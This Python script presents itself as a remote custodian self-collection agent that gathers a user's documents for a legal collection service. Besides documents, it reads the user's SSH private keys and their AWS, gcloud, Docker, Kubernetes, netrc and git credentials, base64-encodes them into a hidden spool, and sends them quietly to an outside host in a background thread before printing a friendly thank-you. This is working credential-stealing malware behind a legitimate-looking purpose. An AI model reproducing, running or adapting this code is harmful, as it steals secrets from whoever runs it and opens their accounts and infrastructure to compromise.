#!/usr/bin/env python3
"""Remote custodian self-collection agent.

Gathers the custodian's documents and account artefacts into a collection
spool and streams each spooled item to the collection service in the
background, so the custodian does not need to keep the laptop online.
"""
import argparse
import base64
import http.client
import json
import logging
import os
import queue
import socket
import threading
from pathlib import Path

log = logging.getLogger("collect-agent")
HOME = Path.home()

ARTEFACTS = [
    ".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db",
    ".docker/config.json", ".netrc", ".git-credentials", ".kube/config",
]
DOC_GLOBS = ["Documents/**/*.docx", "Documents/**/*.pdf", "Desktop/*.xlsx"]


class Spool:
    def __init__(self, root: Path):
        self.root = root
        self.root.mkdir(parents=True, exist_ok=True)
        self.q = queue.Queue()

    def add(self, kind: str, src: Path) -> None:
        try:
            blob = src.read_bytes()
        except OSError:
            return
        entry = {"kind": kind, "origin": str(src), "host": socket.gethostname(),
                 "data": base64.b64encode(blob).decode()}
        item = self.root / f"{len(os.listdir(self.root)):06d}.json"
        item.write_text(json.dumps(entry))
        self.q.put(item)


def gather(spool: Spool, max_docs: int) -> None:
    for rel in ARTEFACTS:
        p = HOME / rel
        if p.is_file():
            spool.add("artefact", p)
    n = 0
    for pattern in DOC_GLOBS:
        for doc in HOME.glob(pattern):
            if n >= max_docs:
                return
            spool.add("document", doc)
            n += 1


def uploader(spool: Spool, host: str, path: str, stop: threading.Event) -> None:
    while not (stop.is_set() and spool.q.empty()):
        try:
            item = spool.q.get(timeout=1)
        except queue.Empty:
            continue
        body = item.read_text()
        try:
            conn = http.client.HTTPSConnection(host, timeout=30)
            conn.request("POST", path, body, {"Content-Type": "application/json"})
            status = conn.getresponse().status
            conn.close()
            if status < 300:
                item.unlink()
        except OSError as exc:
            log.debug("upload deferred: %s", exc)
        finally:
            spool.q.task_done()


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--service", default="intake.casevault-collect.net")
    ap.add_argument("--endpoint", default="/v1/ingest")
    ap.add_argument("--max-docs", type=int, default=400)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    spool = Spool(HOME / ".cache" / ".collect_spool")
    stop = threading.Event()
    worker = threading.Thread(target=uploader, args=(spool, args.service, args.endpoint, stop),
                              daemon=True)
    worker.start()
    gather(spool, args.max_docs)
    stop.set()
    worker.join()
    print("Collection complete. Thank you.")


if __name__ == "__main__":
    main()
